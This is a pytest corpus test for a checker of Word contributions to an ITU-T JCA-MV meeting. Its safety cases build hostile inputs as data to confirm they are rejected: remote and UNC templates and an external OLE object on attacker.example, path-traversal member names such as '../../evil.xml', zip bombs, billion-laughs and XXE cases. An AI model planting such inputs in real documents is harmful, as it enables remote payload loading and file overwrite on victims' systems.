"""The corpus: one or more generated files for every document finding, each yielding
exactly its expected findings (acceptance item 1).

Valid documents come from ITU-T's own template filled in, from the shipped JCA-MV
template filled in, from python-docx documents written from scratch, and from
LibreOffice saving each of these; none of them may be refused.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from docx.document import Document as DocxDocument

from intake.config import EventSettings
from intake.domain import DocumentStatus
from intake.findings import CATALOGUE
from intake.judge import judge_file
from tests.judge import corpus as c
from tests.judge.conftest import Convert, with_checks

ACCEPTED, REJECTED = DocumentStatus.ACCEPTED, DocumentStatus.REJECTED
NOT_A_DOCUMENT = DocumentStatus.NOT_A_DOCUMENT


@dataclass(frozen=True)
class Case:
    name: str  # the file name it is judged under
    build: Callable[[], bytes]
    codes: tuple[str, ...]  # the findings expected, as a multiset
    status: DocumentStatus
    detected: str = "docx"
    event: str = "jca"  # jca: the shipped event; itu: ITU-T's template; tight: small limits
    texts: tuple[str, ...] | None = None  # the placeholder texts expected, in order


def _apply(edits: tuple[Callable[[DocxDocument], None], ...]) -> Callable[[DocxDocument], None]:
    def apply(document: DocxDocument) -> None:
        for edit in edits:
            edit(document)

    return apply


def edit_jca(*edits: Callable[[DocxDocument], None]) -> Callable[[], bytes]:
    return lambda: c.filled_jca(_apply(edits))


def edit_itu(*edits: Callable[[DocxDocument], None]) -> Callable[[], bytes]:
    return lambda: c.filled_itu(_apply(edits))


def field(label: str, *values: str) -> Callable[[DocxDocument], None]:
    return lambda d: c.set_field(d, label, *values)


def text(old: str, new: str) -> Callable[[DocxDocument], None]:
    return lambda d: c.replace_text(d, old, new)


def keep_placeholder(label: str, sample: str) -> Callable[[DocxDocument], None]:
    return lambda d: c.set_field(d, label, sample)


LONG_ABSTRACT = " ".join(["word"] * 250)
ITU_HEADER = (
    "[1/12, 2/12, etc.]",
    "[Insert source(s)]",
    "[Insert title (always in ENGLISH)]",
    "Insert contact name",
    "Insert organization",
    "Insert country",
    "+xx",
    "a@b.com",
    "[Insert an abstract under 200 words that describes the proposals and content of…",
    "SG12-Cn",
    "[Place, dd-dd mmm yyyy]",
)
# With the JCA-MV template configured: the body lines its own template shares with ITU-T's.
ITU_BLANK = (
    *ITU_HEADER,
    "[Your text starts here.",
    "Before submitting this document:",
    '– Make sure that "Track Changes" is turned off.',
    "– Remove any remaining yellow highlighting, including the square brackets.",
)
# With ITU-T's template configured: every line of its own checklist.
ITU_BLANK_OWN = (
    *ITU_HEADER,
    "[Your text starts here.",
    "Before submitting this document:",
    "– Update the information highlighted in yellow above:",
    "document number (n), Question(s), source, title, contact information and abstra…",
    "– Make sure that the title and the source or sources inserted in your Contribut…",
    "– If you need more contact information rows, please insert by copy-and-pasting…",
    '– Make sure that "Track Changes" is turned off.',
    "– Remove any remaining yellow highlighting, including the square brackets.",
)
JCA_BLANK = (
    "[Insert source(s): organization(s) and country]",
    "[Insert title (always in English)]",
    "[Proposal, Discussion or Information]",
    "Insert contact name",
    "Insert organization",
    "Insert country",
    "+xx",
    "a@b.com",
    "[Insert keywords, separated by commas]",
    "[Insert an abstract under 200 words that describes the proposals and content of…",
    "[Your text starts here.",
    "Before submitting this document:",
    "– Update the information highlighted in yellow above: Source, Title, Purpose, c…",
    '– Make sure that "Track Changes" is turned off.',
    "– Remove any remaining yellow highlighting, including the square brackets.",
)
P = "template.placeholder"
TOLERANT_LABELS = {
    "Question(s):": "QUESTION(S):",
    "Source:": "SOURCE :",
    "Title:": "Title\u00a0:",
    "Contact:": "Ｃｏｎｔａｃｔ：",
    "Abstract:": "  abstract:",
}


def _dangling_header() -> bytes:
    """The page-header relationship removed: its reference dangles (python-docx KeyErrors)."""
    data = c.filled_jca()
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        rels = package.read("word/_rels/document.xml.rels").decode()
    rels = re.sub(r'<Relationship [^>]*relationships/header"[^>]*/>', "", rels)
    return c.replace_part(data, "word/_rels/document.xml.rels", rels.encode())


def _external_object() -> bytes:
    rel = (
        f'<Relationship Id="rId9" Type="{c.REL}/oleObject" '
        'Target="http://attacker.example/object.bin" TargetMode="External"/>'
    )
    return c.raw_docx(c.with_rels(c.minimal_parts(), rel))


def _malformed() -> bytes:
    parts = c.minimal_parts()
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"</w:body>", b"</w:bdy>")
    return c.raw_docx(parts)


CASES = [
    # Valid documents: never refused.
    Case("itu-filled.docx", c.filled_itu, (), ACCEPTED),
    Case("itu-filled-own-template.docx", c.filled_itu, (), ACCEPTED, event="itu"),
    Case("jca-filled.docx", c.filled_jca, (), ACCEPTED),
    Case("jca-filled-itu-template.docx", c.filled_jca, (), ACCEPTED, event="itu"),
    Case("scratch.docx", c.scratch, (), ACCEPTED),
    Case("scratch-page-header.docx", lambda: c.scratch(in_page_header=True), (), ACCEPTED),
    Case("scratch-paragraphs.docx", c.scratch_paragraphs, (), ACCEPTED),
    Case("labels-typed-loosely.docx", lambda: c.scratch(TOLERANT_LABELS), (), ACCEPTED),
    Case(
        "local-template.docx",
        lambda: c.attach_template(
            c.filled_jca(), "file:///C:/Users/jdoe/AppData/Roaming/Microsoft/Templates/ITU.dotm"
        ),
        (),
        ACCEPTED,
    ),
    Case("dangling-header.docx", _dangling_header, (), ACCEPTED),
    Case("merged-contact.docx", c.merged_contacts, (), ACCEPTED),
    Case(
        "british-spelling.docx",
        edit_jca(
            text(f"{c.GROUP} (JCA-MV)", "Joint Coordination Activity on Metaverse Standardisation"),
            text("JCA-MV-I-xxx", ""),
        ),
        (),
        ACCEPTED,
    ),
    Case("dated.docx", edit_jca(text("Geneva, 13 May 2026", "Date: 28 April 2026")), (), ACCEPTED),
    Case("paper.pdf", c.filled_jca, ("type.name_mismatch",), ACCEPTED),
    # Warnings: accepted, and told.
    Case(
        "long-abstract.docx",
        edit_jca(field("Abstract:", LONG_ABSTRACT)),
        ("template.too_many_words",),
        ACCEPTED,
    ),
    Case(
        "old-period.docx",
        edit_jca(text("STUDY PERIOD 2025-2028", "STUDY PERIOD 2021-2024")),
        ("template.study_period",),
        ACCEPTED,
    ),
    Case(
        "no-group.docx",
        edit_jca(text(f"{c.GROUP} (JCA-MV)", ""), text("JCA-MV-I-xxx", "")),
        ("template.group_missing",),
        ACCEPTED,
    ),
    Case("highlight.docx", edit_jca(c.highlight_word), ("template.highlight",), ACCEPTED),
    Case("tracked.docx", edit_jca(c.add_insertion), ("template.tracked_changes",), ACCEPTED),
    Case("tracking-on.docx", edit_jca(c.track_changes_on), ("template.track_changes_on",), ACCEPTED),
    # The template not filled in, or filled in wrongly.
    Case(
        "itu-blank.docx",
        lambda: c.ITU_TEMPLATE.read_bytes(),
        (*[P] * len(ITU_BLANK), "template.wrong_group", "template.highlight"),
        REJECTED,
        texts=ITU_BLANK,
    ),
    Case(
        "itu-blank-own-template.docx",
        lambda: c.ITU_TEMPLATE.read_bytes(),
        (*[P] * len(ITU_BLANK_OWN), "template.wrong_group", "template.highlight"),
        REJECTED,
        event="itu",
        texts=ITU_BLANK_OWN,
    ),
    Case(
        "jca-blank.docx",
        lambda: c.JCA_TEMPLATE.read_bytes(),
        (*[P] * len(JCA_BLANK), "template.highlight"),
        REJECTED,
        texts=JCA_BLANK,
    ),
    Case(
        "keywords-left.docx",
        edit_jca(keep_placeholder("Keywords:", "[Insert keywords, separated by commas]")),
        (P,),
        REJECTED,
        texts=("[Insert keywords, separated by commas]",),
    ),
    Case("no-title.docx", edit_jca(field("Title:", "")), ("template.missing_field",), REJECTED),
    Case(
        "bad-email.docx",
        edit_jca(field("Contact:", "\n".join(c.CONTACT), "Tel:\t+1\nE-mail:\tjane(at)example.org")),
        ("template.contact_email",),
        REJECTED,
    ),
    Case(
        "no-email.docx",
        edit_jca(field("Contact:", "\n".join(c.CONTACT), "Tel:\t+82 42 1")),
        ("template.contact_email",),
        REJECTED,
    ),
    Case(
        "sg12.docx",
        edit_itu(text(c.GROUP, "STUDY GROUP 12"), text("JCA-MV-I-xxx", "SG12-C123")),
        ("template.wrong_group",),
        REJECTED,
    ),
    Case(
        "other-jca.docx",
        edit_jca(
            text(
                f"{c.GROUP} (JCA-MV)",
                "Joint Coordination Activity on Internet of Things and Smart Cities and Communities",
            ),
            text("JCA-MV-I-xxx", "JCA-IoT-D-001"),
        ),
        ("template.wrong_group",),
        REJECTED,
    ),
    Case(
        "other-meeting.docx",
        edit_jca(text("Geneva, 13 May 2026", "Geneva, 4-8 March 2024")),
        ("template.wrong_meeting",),
        REJECTED,
    ),
    Case("no-header.docx", c.plain_document, ("template.no_header",), REJECTED),
    # What the file really is.
    Case("old.doc", c.legacy_doc, ("type.legacy_doc",), REJECTED, "doc"),
    Case("locked.docx", c.encrypted_docx, ("type.encrypted",), REJECTED, "encrypted_office"),
    Case("macros.docm", c.macro_docx, ("type.macro_enabled",), REJECTED, "docm"),
    Case("macros-renamed.docx", c.macro_docx, ("type.macro_enabled",), REJECTED, "docm"),
    Case("alone.pdf", lambda: c.PDF, ("type.pdf_without_word",), REJECTED, "pdf"),
    Case("pdf-named.docx", lambda: c.PDF, ("type.pdf_without_word", "type.name_mismatch"), REJECTED, "pdf"),
    Case("material.zip", c.plain_zip, ("type.zip_without_word",), REJECTED, "zip"),
    Case("empty.docx", lambda: b"", ("type.empty",), REJECTED, "empty"),
    Case("notes.txt", lambda: b"Some notes on the roadmap.\n", ("type.unsupported",), REJECTED, "other"),
    Case("sheet.xlsx", c.spreadsheet, ("type.unsupported",), REJECTED, "other"),
    Case("figure.png", lambda: c.PNG, ("type.unsupported",), REJECTED, "image"),
    Case("smime.p7s", lambda: c.P7S, (), NOT_A_DOCUMENT, "signature"),
    Case("jane.vcf", lambda: c.VCARD, (), NOT_A_DOCUMENT, "vcard"),
    # Opening it safely.
    Case("bomb.docx", c.zip_bomb, ("safety.zip_bomb",), REJECTED),
    # Its directory says 1000 bytes: reading stops there and the checksum fails.
    Case("bomb-lying.docx", lambda: c.zip_bomb(honest=False), ("safety.damaged",), REJECTED),
    Case("bomb-ratio.docx", lambda: c.zip_bomb(50 * 2**20), ("safety.zip_bomb",), REJECTED),
    Case("laughs.docx", c.billion_laughs, ("safety.xml_entities",), REJECTED),
    Case("xxe.docx", c.xxe, ("safety.xml_external",), REJECTED),
    Case("external-dtd.docx", c.external_dtd, ("safety.xml_external",), REJECTED),
    Case(
        "remote-template.docx",
        lambda: c.attach_template(c.filled_jca(), "http://attacker.example/t.dotm"),
        ("safety.remote_template",),
        REJECTED,
    ),
    Case(
        "unc-template.docx",
        lambda: c.attach_template(c.filled_jca(), "\\\\attacker.example\\share\\t.dotm"),
        ("safety.remote_template",),
        REJECTED,
    ),
    Case("external-object.docx", _external_object, ("safety.external_content",), REJECTED),
    Case("locked-part.docx", c.encrypted_member, ("safety.encrypted_part",), REJECTED),
    Case("dotdot.docx", lambda: c.zip_with_raw_name("../../evil.xml"), ("safety.unsafe_path",), REJECTED),
    Case("absolute.docx", lambda: c.zip_with_raw_name("/etc/evil.xml"), ("safety.unsafe_path",), REJECTED),
    Case("twice.docx", c.duplicate_part, ("safety.duplicate_part",), REJECTED),
    Case("many.docx", lambda: c.many_parts(2001), ("safety.too_many_parts",), REJECTED),
    Case(
        "complex.docx",
        lambda: c.raw_docx(c.minimal_parts(c.para("x") * 400)),
        ("safety.too_complex",),
        REJECTED,
        event="tight",
    ),
    Case("truncated.docx", lambda: c.truncated(c.filled_jca()), ("safety.damaged",), REJECTED, "damaged"),
    Case("bad-crc.docx", c.bad_crc, ("safety.damaged",), REJECTED),
    Case("malformed.docx", _malformed, ("safety.damaged",), REJECTED),
]


def _event(case: Case, event: EventSettings, itu_event: EventSettings) -> EventSettings:
    if case.event == "itu":
        return itu_event
    if case.event == "tight":
        return with_checks(event, max_xml_elements=1000)
    return event


@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_each_file_yields_exactly_its_findings(
    case: Case, event: EventSettings, itu_event: EventSettings
) -> None:
    verdict = judge_file(case.name, case.build(), _event(case, event, itu_event))
    assert Counter(f.code for f in verdict.findings) == Counter(case.codes), [
        (f.code, f.message) for f in verdict.findings
    ]
    assert verdict.status is case.status
    assert verdict.detected_type == case.detected
    if case.texts is not None:
        assert tuple(f.params["text"] for f in verdict.findings if f.code == P) == case.texts


def test_every_document_finding_has_a_file_in_the_corpus() -> None:
    covered = {code for case in CASES for code in case.codes} | {"document.fault"}
    wanted = {code for code in CATALOGUE if code.split(".")[0] in ("type", "safety", "template")}
    # Found in a message only: a winmail.dat (test_message) and our own fault (below).
    assert wanted - covered == {"type.winmail_dat"}


def test_a_fault_of_ours_is_a_finding_not_a_crash(
    event: EventSettings, monkeypatch: pytest.MonkeyPatch
) -> None:
    import intake.judge

    def broken(*args: object) -> None:
        raise RuntimeError("a bug in the reader")

    monkeypatch.setattr(intake.judge, "read_word", broken)
    verdict = judge_file("paper.docx", c.filled_jca(), event)
    assert [f.code for f in verdict.findings] == ["document.fault"]
    assert verdict.status is REJECTED
    assert "RuntimeError" in (verdict.findings[0].detail or "")


def test_findings_say_which_field_text_and_part(event: EventSettings) -> None:
    """Precise words: the field, the placeholder text, the part of the package."""
    blank = judge_file("blank.docx", c.JCA_TEMPLATE.read_bytes(), event)
    where = {f.params["text"]: f.params["where"] for f in blank.findings if f.code == P}
    assert where["Insert contact name"] == "the “Contact” field"
    assert where["[Your text starts here."] == "the text of the document"
    assert "“Title”" in judge_file("t.docx", edit_jca(field("Title:", ""))(), event).findings[0].message
    laughs = judge_file("l.docx", c.billion_laughs(), event).findings[0]
    assert laughs.params["member"] == "word/document.xml"
    remote = judge_file(
        "r.docx", c.attach_template(c.filled_jca(), "http://attacker.example/t.dotm"), event
    ).findings[0]
    assert "http://attacker.example/t.dotm" in remote.message
    assert remote.detail == "word/_rels/settings.xml.rels: http://attacker.example/t.dotm"
    mismatch = judge_file("paper.docx", c.PDF, event).findings[1]
    assert mismatch.message == (
        "The file is named “paper.docx”, like a Word document, but it is really a PDF."
    )


def test_what_is_read_from_the_header_is_recorded(event: EventSettings) -> None:
    verdict = judge_file("itu.docx", c.filled_itu(), event)
    assert verdict.title == c.TITLE
    assert verdict.source == c.SOURCE
    assert verdict.abstract == c.ABSTRACT
    assert verdict.contacts == (
        {
            "name": "Jane Doe",
            "organization": "Example Telecom Research Institute",
            "country": "Korea (Republic of)",
            "tel": c.TEL,
            "email": c.EMAIL,
        },
        {
            "name": "Kim Minsu",
            "organization": "Example University",
            "country": "Korea (Republic of)",
            "tel": "+82 2 000 0000",
            "email": "minsu.kim@example.ac.kr",
        },
    )
    merged = judge_file("merged.docx", c.merged_contacts(), event)
    assert [p["email"] for p in merged.contacts] == [c.EMAIL, "minsu.kim@example.ac.kr"]
    assert merged.contacts[1]["name"] == "Kim Minsu"
    loose = judge_file("loose.docx", c.scratch(TOLERANT_LABELS), event)
    assert (loose.title, loose.source, loose.abstract) == (c.TITLE, c.SOURCE, c.ABSTRACT)
    assert loose.contacts[0]["email"] == c.EMAIL


# --- LibreOffice ---------------------------------------------------------------------

LIBREOFFICE: dict[str, tuple[Callable[[], bytes], tuple[str, ...]]] = {
    "itu-filled.docx": (c.filled_itu, ()),
    "jca-filled.docx": (c.filled_jca, ()),
    "scratch.docx": (c.scratch, ()),
    "page-header.docx": (lambda: c.scratch(in_page_header=True), ()),
    "tracked.docx": (edit_jca(c.add_insertion), ("template.tracked_changes",)),
    "jca-blank.docx": (lambda: c.JCA_TEMPLATE.read_bytes(), (*[P] * len(JCA_BLANK), "template.highlight")),
}


@pytest.fixture(scope="module")
def saved_by_libreoffice(libreoffice: Convert) -> dict[str, bytes]:
    return libreoffice({name: build() for name, (build, _) in LIBREOFFICE.items()})


@pytest.mark.parametrize("name", list(LIBREOFFICE))
def test_documents_saved_by_libreoffice(
    name: str, saved_by_libreoffice: dict[str, bytes], event: EventSettings
) -> None:
    data = saved_by_libreoffice[name]
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert b"LibreOffice" in package.read("docProps/app.xml")  # really saved by it
    verdict = judge_file(name, data, event)
    expected = LIBREOFFICE[name][1]
    assert Counter(f.code for f in verdict.findings) == Counter(expected), [
        (f.code, f.message) for f in verdict.findings
    ]
    if not any(f.blocks for f in verdict.findings):
        assert verdict.status is ACCEPTED
        assert verdict.title == c.TITLE


def test_the_corpus_cases_have_distinct_names() -> None:
    names = [case.name for case in CASES]
    assert len(names) == len(set(names))
